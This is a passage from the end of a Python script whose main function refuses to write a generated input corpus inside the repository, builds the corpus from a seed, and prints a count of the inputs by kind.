        parser.error("write the corpus outside the repository (it may hold copies of ../shared/data)")
    items = build_corpus(out, seed=args.seed, shared=not args.no_shared)
    kinds: dict[str, int] = {}
    for i in items:
        kinds[i.kind] = kinds.get(i.kind, 0) + 1
    print(f"{out}: {len(items)} inputs ({', '.join(f'{v} {k}s' for k, v in sorted(kinds.items()))})")
    return 0


if __name__ == "__main__":
    sys.exit(main())
